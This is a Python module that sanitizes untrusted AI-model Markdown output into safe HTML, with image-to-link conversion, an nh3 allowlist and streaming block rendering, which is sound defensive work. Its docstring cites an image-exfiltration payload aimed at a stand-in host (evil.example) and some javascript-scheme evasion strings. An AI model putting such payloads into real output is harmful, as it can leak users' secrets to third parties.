"""The one Markdown -> safe HTML pipeline for model output (live view and history).

Model output is untrusted (and so is anything a model copied from a web page), so:

1. Python-Markdown runs with raw HTML disabled: the ``html_block`` preprocessor and the
   inline ``html`` pattern are removed, so any tag the model writes (``<script>``,
   ``<img onerror>``, ``<iframe>`` ...) is serialised as escaped text.
2. Images are never emitted as ``<img>``: a tree processor turns every image into a
   click-to-load link ``<a class="remote-image" href="URL">🖼 alt (image: host)</a>``,
   so no request leaves the browser unless the user clicks (no exfiltration via
   ``![x](https://evil.example/?q=secret)``).
3. Code blocks are highlighted by Pygments through ``codehilite`` with CSS classes only
   (``css_class="highlight"``); the colours come from a static stylesheet built by
   :func:`pygments_css`.
4. The HTML is then cleaned by nh3 with an explicit allowlist of tags, attributes and
   classes; links may only be ``http``, ``https`` or ``mailto`` (the scheme check runs on
   the entity-decoded, control-character-stripped URL, so ``jav&#x09;ascript:``,
   ``JAVASCRIPT:`` and friends are dropped); relative URLs are dropped; every link gets
   ``rel="noopener noreferrer nofollow"`` and opens in the same tab.

:class:`IncrementalRenderer` renders a streaming answer block by block: each finished
Markdown block is rendered exactly once, and the unfinished tail is handed back as raw
text that the client must show as ``textContent`` (never as HTML).  See its docstring for
the block rule.

This module is framework-free (no Django imports).
"""

from __future__ import annotations

import html
import logging
import re
import threading
from dataclasses import dataclass, field
from urllib.parse import urlsplit
from xml.etree import ElementTree as etree

import markdown
import nh3
from markdown.extensions import Extension
from markdown.extensions.attr_list import get_attrs_and_remainder
from markdown.inlinepatterns import SimpleTagInlineProcessor
from markdown.treeprocessors import Treeprocessor
from pygments.formatters import HtmlFormatter
from pygments.token import STANDARD_TYPES

__all__ = [
    "ALLOWED_TAGS",
    "IncrementalRenderer",
    "RenderUpdate",
    "pygments_css",
    "render_markdown",
    "render_plain_escaped",
]

log = logging.getLogger(__name__)

CSS_CLASS = "highlight"
REMOTE_IMAGE_CLASS = "remote-image"
LINK_REL = "noopener noreferrer nofollow"
URL_SCHEMES = frozenset({"http", "https", "mailto"})

# ---------------------------------------------------------------------------
# Sanitizer allowlist
# ---------------------------------------------------------------------------

ALLOWED_TAGS = frozenset(
    {
        "p", "br", "hr",
        "h1", "h2", "h3", "h4", "h5", "h6",
        "strong", "em", "del", "code", "pre", "span",
        "blockquote", "ul", "ol", "li",
        "table", "thead", "tbody", "tr", "th", "td",
        "a",
        # codehilite wraps highlighted code in <div class="highlight">; the class is
        # the only attribute a div may carry.
        "div",
    }
)

# Attributes with free-form values.  ``class`` is NOT listed here: it is governed by
# ALLOWED_CLASSES below (nh3 keeps only the listed class names).
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    # <ol start="3"> - Python-Markdown only ever emits digits here.
    "ol": {"start"},
}

# Attributes restricted to a fixed set of values.
ALLOWED_ATTRIBUTE_VALUES = {
    "th": {"align": {"left", "center", "right"}},
    "td": {"align": {"left", "center", "right"}},
}

# Every class Pygments' HtmlFormatter can put on a <span>, plus "hll" (highlighted line).
_PYGMENTS_CLASSES = frozenset(c for c in STANDARD_TYPES.values() if c) | {"hll"}

ALLOWED_CLASSES = {
    "span": set(_PYGMENTS_CLASSES) | {REMOTE_IMAGE_CLASS},
    "div": {CSS_CLASS},
    "a": {REMOTE_IMAGE_CLASS},
}


def _sanitize(fragment: str) -> str:
    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        tag_attribute_values={
            tag: {attr: set(values) for attr, values in attrs.items()}
            for tag, attrs in ALLOWED_ATTRIBUTE_VALUES.items()
        },
        allowed_classes={k: set(v) for k, v in ALLOWED_CLASSES.items()},
        url_schemes=set(URL_SCHEMES),
        url_relative="deny",
        link_rel=LINK_REL,
        strip_comments=True,
    )


# ---------------------------------------------------------------------------
# Markdown setup
# ---------------------------------------------------------------------------


class _RemoteImageTreeprocessor(Treeprocessor):
    """Replace every ``<img>`` with a click-to-load link (never loads automatically)."""

    def run(self, root: etree.Element) -> None:
        parents = {child: parent for parent in root.iter() for child in parent}
        for el in list(root.iter("img")):
            src = el.get("src", "")
            alt = el.get("alt", "")
            title = el.get("title")
            try:
                host = urlsplit(src.strip()).hostname or ""
            except ValueError:
                host = ""
            label = f"\N{FRAME WITH PICTURE} {alt} (image: {host})" if host else (
                f"\N{FRAME WITH PICTURE} {alt} (image)"
            )
            inside_link = False
            p = parents.get(el)
            while p is not None:
                if p.tag == "a":
                    inside_link = True
                    break
                p = parents.get(p)
            el.attrib.clear()
            el.text = label
            el.set("class", REMOTE_IMAGE_CLASS)
            if inside_link:
                # No nested anchors: inside a link the image is only a label.
                el.tag = "span"
            else:
                el.tag = "a"
                el.set("href", src)
                if title:
                    el.set("title", title)


class _SafeMarkdownExtension(Extension):
    def extendMarkdown(self, md: markdown.Markdown) -> None:  # noqa: N802 (API name)
        # Raw HTML off: block-level HTML and inline tags are treated as plain text,
        # which the serializer escapes.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        # ~~strike~~ -> <del>
        md.inlinePatterns.register(
            SimpleTagInlineProcessor(r"(~~)(?=\S)(.+?)(?<=\S)~~", "del"), "del", 65
        )
        # After the inline processor (20) and prettify (10), before unescape (0).
        md.treeprocessors.register(_RemoteImageTreeprocessor(md), "remote_image", 5)


def _new_markdown() -> markdown.Markdown:
    return markdown.Markdown(
        extensions=[
            "fenced_code",
            "tables",
            "sane_lists",
            "codehilite",
            _SafeMarkdownExtension(),
        ],
        extension_configs={
            "codehilite": {
                "css_class": CSS_CLASS,
                "noclasses": False,  # classes only; colours come from pygments_css()
                "guess_lang": False,
                "use_pygments": True,
                "linenums": False,
            },
            # align="..." instead of style="text-align: ..." (no style attributes).
            "tables": {"use_align_attribute": True},
        },
        output_format="html",
    )


_local = threading.local()


def _markdown() -> markdown.Markdown:
    md = getattr(_local, "md", None)
    if md is None:
        md = _local.md = _new_markdown()
    return md


def render_markdown(text: str) -> str:
    """Render untrusted Markdown to sanitized HTML."""
    if not text or not text.strip():
        return ""
    md = _markdown()
    try:
        raw = md.reset().convert(text)
    except Exception as exc:  # pathological input, e.g. RecursionError on deep nesting
        log.warning(
            "markdown rendering failed (%s); falling back to escaped text",
            type(exc).__name__,
        )
        _local.md = None  # the instance may be left in a broken state
        return f"<pre>{render_plain_escaped(text)}</pre>"
    return _sanitize(raw)


def render_plain_escaped(text: str) -> str:
    """Escape text for inclusion in HTML (e.g. the unfinished tail in history views)."""
    return html.escape(text, quote=True)


# ---------------------------------------------------------------------------
# Pygments stylesheet
# ---------------------------------------------------------------------------


def pygments_css(light: str = "default", dark: str = "github-dark") -> str:
    """Stylesheet for ``.highlight`` code blocks: light by default, dark under
    ``@media (prefers-color-scheme: dark)``.

    Inside the dark block every token class the light style styles is first reset, so
    no light property (a colour, bold, a border) leaks into dark mode where the dark
    style does not set it.
    """
    sel = "." + CSS_CLASS
    lf = HtmlFormatter(style=light, cssclass=CSS_CLASS)
    df = HtmlFormatter(style=dark, cssclass=CSS_CLASS)

    def defs(fmt: HtmlFormatter) -> str:
        return "\n".join(
            fmt.get_background_style_defs(sel) + fmt.get_token_style_defs(sel)
        )

    light_classes = sorted({c for c in lf.class2style if c})
    resets = ""
    if light_classes:
        resets = ",\n".join(f"{sel} .{c}" for c in light_classes) + (
            " { color: inherit; background-color: transparent; font-weight: inherit;"
            " font-style: inherit; text-decoration: none; border: none; }"
        )
    dark_body = "\n".join(filter(None, [resets, defs(df)]))
    dark_body = "\n".join("  " + line for line in dark_body.splitlines())
    return (
        f"/* Generated by chat.render.pygments_css(light={light!r}, dark={dark!r}). */\n"
        f"{sel} pre {{ line-height: 125%; overflow-x: auto; }}\n"
        f"{defs(lf)}\n"
        "@media (prefers-color-scheme: dark) {\n"
        f"{dark_body}\n"
        "}\n"
    )


# ---------------------------------------------------------------------------
# Incremental rendering
# ---------------------------------------------------------------------------


@dataclass
class RenderUpdate:
    """What one :meth:`IncrementalRenderer.feed` (or ``finish``) produced.

    ``blocks``: sanitized HTML of the blocks finished by this call, in order (each block
    is rendered and reported exactly once).  ``tail``: the raw, unfinished source text
    after the last finished block; show it as escaped text only (``textContent``, or
    :func:`render_plain_escaped` server-side).  ``consumed``: number of source characters
    covered by all finished blocks so far (``tail == source[consumed:]``).
    """

    blocks: list[str] = field(default_factory=list)
    tail: str = ""
    consumed: int = 0
    done: bool = False


_STX, _ETX = "\x02", "\x03"  # stripped by Python-Markdown before parsing

# Exactly Python-Markdown's fenced_code opening line (FENCED_BLOCK_RE), for one line.
_FENCE_OPEN_RE = re.compile(
    r"""^(?P<fence>~{3,}|`{3,})[ ]*
        ((\{(?P<attrs>[^\n]*)\})|
        (\.?(?P<lang>[\w#.+-]*)[ ]*)?
        (hl_lines=(?P<quot>"|')(?P<hl_lines>.*?)(?P=quot)[ ]*)?)$""",
    re.VERBOSE,
)
_LIST_ITEM_RE = re.compile(r"^[ \t]*(?:[*+-]|\d+[.)])(?:[ \t]|$)")
_QUOTE_RE = re.compile(r"^[ \t]*>")
# A line prefix that may still turn into a list marker once more text arrives.
_MAYBE_LIST_PREFIX_RE = re.compile(r"^(?:[*+-]|\d+[.)]?)$")

_SPLIT, _JOIN, _UNKNOWN = "split", "join", "unknown"


def _is_blank(line: str) -> bool:
    return not line.strip(" \t")


class IncrementalRenderer:
    """Render a streamed Markdown answer block by block.

    Block rule (a block is the source text between two boundaries):

    * Only complete lines are scanned, each exactly once; ``` / ~~~ fences are tracked
      the way Python-Markdown's fenced_code sees them (fence at column 0, closed by the
      identical fence string).  Nothing inside an open fence is ever a boundary, and an
      unclosed fence keeps everything after it in the tail until :meth:`finish`.
    * A boundary is placed just before the first non-blank line that follows one or more
      blank lines outside a fence, **unless** that line may continue the previous block:
        - it is indented (space or tab) - list-item continuation or indented code;
        - it looks like a list item (``-``/``*``/``+``/``1.``/``1)``) and the previous
          paragraph (text since the last blank line) contained a list item line or
          continued one (a loose list stays one ``<ul>``/``<ol>``);
        - it starts with ``>`` and the previous paragraph contained a ``>`` line
          (consecutive quotes stay one ``<blockquote>``).
      The decision is taken as soon as the first characters of that line settle it, so a
      finished paragraph is rendered when the next block starts, not when it ends.
    * :meth:`finish` renders whatever is left as the last block.

    Joining is always safe (a longer block renders exactly like that slice of the whole
    text); the rule only splits where Python-Markdown starts an independent top-level
    element, so ``"\\n".join(all blocks)`` equals ``render_markdown(whole text)`` for
    ordinary input.  Known difference: reference-style links whose definition lives in a
    *different* block stay unresolved (shown as text) in the live view.

    Cost: each ``feed`` scans only the new text (plus the current partial line once it
    completes) and renders only newly finished blocks, so the Markdown converter runs
    once per block, not once per delta.  ``tail`` is a string copy of the unfinished part.
    """

    def __init__(self) -> None:
        self._pending = ""  # source text after the last boundary (== tail)
        self._line_start = 0  # offset in _pending of the first not yet scanned line
        self._search_from = 0  # where to resume looking for "\n" in the partial line
        self.consumed = 0  # source chars in finished blocks
        self.blocks: list[str] = []  # every finished block so far
        self._done = False
        # scanner state
        self._fence: str | None = None  # open fence string, or None
        self._after_blank = False  # saw blank line(s) outside a fence since last text
        self._has_text = False  # current block has a non-blank line
        self._seg_list = False  # current paragraph has/continues a list item
        self._seg_quote = False  # current paragraph has/continues a blockquote

    # -- public API ---------------------------------------------------------

    @property
    def tail(self) -> str:
        return self._pending

    @property
    def done(self) -> bool:
        return self._done

    def snapshot(self) -> RenderUpdate:
        """All finished blocks so far plus the tail (for a reconnecting client)."""
        return RenderUpdate(list(self.blocks), self._pending, self.consumed, self._done)

    def feed(self, delta: str) -> RenderUpdate:
        if self._done:
            raise RuntimeError("IncrementalRenderer.feed() after finish()")
        new_blocks: list[str] = []
        if delta:
            self._pending += delta
            self._scan(new_blocks)
        return RenderUpdate(new_blocks, self._pending, self.consumed)

    def finish(self) -> RenderUpdate:
        if self._done:
            return RenderUpdate([], "", self.consumed, True)
        new_blocks: list[str] = []
        self._emit(len(self._pending), new_blocks)
        self._done = True
        return RenderUpdate(new_blocks, "", self.consumed, True)

    # -- internals ----------------------------------------------------------

    def _emit(self, end: int, out: list[str]) -> None:
        """Render ``_pending[:end]`` as one finished block."""
        source, self._pending = self._pending[:end], self._pending[end:]
        self.consumed += end
        self._line_start -= end
        self._search_from = max(0, self._search_from - end)
        rendered = render_markdown(source).strip()
        if rendered:
            out.append(rendered)
            self.blocks.append(rendered)

    def _scan(self, out: list[str]) -> None:
        pending = self._pending
        while True:
            nl = pending.find("\n", self._search_from)
            if nl < 0:
                self._search_from = len(pending)
                break
            start = self._line_start
            self._line_start = self._search_from = nl + 1
            line = pending[start:nl]
            split_at = self._process_line(line, start)
            if split_at is not None:
                self._emit(split_at, out)
                pending = self._pending
        # Early decision on a partial line that follows blank lines.
        if self._after_blank and self._fence is None and self._has_text:
            # A short prefix settles it; never re-copy a long partial line.
            partial = pending[self._line_start:self._line_start + 64]
            decision = self._decide(_normalize_prefix(partial), partial_line=True)
            if decision == _SPLIT:
                self._after_blank = False
                self._has_text = False
                self._emit(self._line_start, out)
                self._start_segment(indented=False)
            elif decision == _JOIN:
                self._after_blank = False
                self._start_segment(indented=partial[:1] in (" ", "\t"))

    def _start_segment(self, indented: bool) -> None:
        if not indented:
            self._seg_list = self._seg_quote = False

    def _decide(self, line: str | None, partial_line: bool) -> str:
        """Should a boundary go before ``line`` (first non-blank line after blanks)?"""
        if line is None:
            return _UNKNOWN
        if line[:1] in (" ", "\t"):
            if partial_line and _is_blank(line):
                return _UNKNOWN
            return _JOIN
        if not line:
            return _UNKNOWN
        if self._seg_list:
            if _LIST_ITEM_RE.match(line):
                return _JOIN
            if partial_line and _MAYBE_LIST_PREFIX_RE.match(line):
                return _UNKNOWN
        if self._seg_quote and line.startswith(">"):
            return _JOIN
        return _SPLIT

    def _process_line(self, raw: str, start: int) -> int | None:
        """Feed one complete source line (without "\\n"); maybe return a split offset."""
        content = raw.replace(_STX, "").replace(_ETX, "")
        if content.endswith("\r"):
            content = content[:-1]
        split_at: int | None = None
        # A lone "\r" is a line break for Python-Markdown too.
        for i, sub in enumerate(content.split("\r")):
            sub = sub.expandtabs(4)
            if self._fence is not None:
                if sub.rstrip(" ") == self._fence:
                    self._fence = None
                self._note_text(sub)
                continue
            if _is_blank(sub):
                if self._has_text:
                    self._after_blank = True
                continue
            if self._after_blank:
                self._after_blank = False
                # Only split at the start of a raw line.
                decision = self._decide(sub, partial_line=False) if i == 0 else _JOIN
                if decision == _SPLIT:
                    split_at = start
                    self._has_text = False
                self._start_segment(indented=sub[:1] == " ")
            m = _FENCE_OPEN_RE.match(sub)
            if m and not (m.group("attrs") and get_attrs_and_remainder(m.group("attrs"))[1]):
                self._fence = m.group("fence")
            self._note_text(sub)
        return split_at

    def _note_text(self, sub: str) -> None:
        if _is_blank(sub):
            return
        self._has_text = True
        if _LIST_ITEM_RE.match(sub):
            self._seg_list = True
        if _QUOTE_RE.match(sub):
            self._seg_quote = True


def _normalize_prefix(partial: str) -> str | None:
    """Normalise the start of an incomplete line like Python-Markdown would, or None if
    a carriage return makes its first line ambiguous so far."""
    p = partial.replace(_STX, "").replace(_ETX, "")
    stripped = p.lstrip(" \t")
    if "\r" in p[: len(p) - len(stripped) + 1]:
        return None
    return p.expandtabs(4)
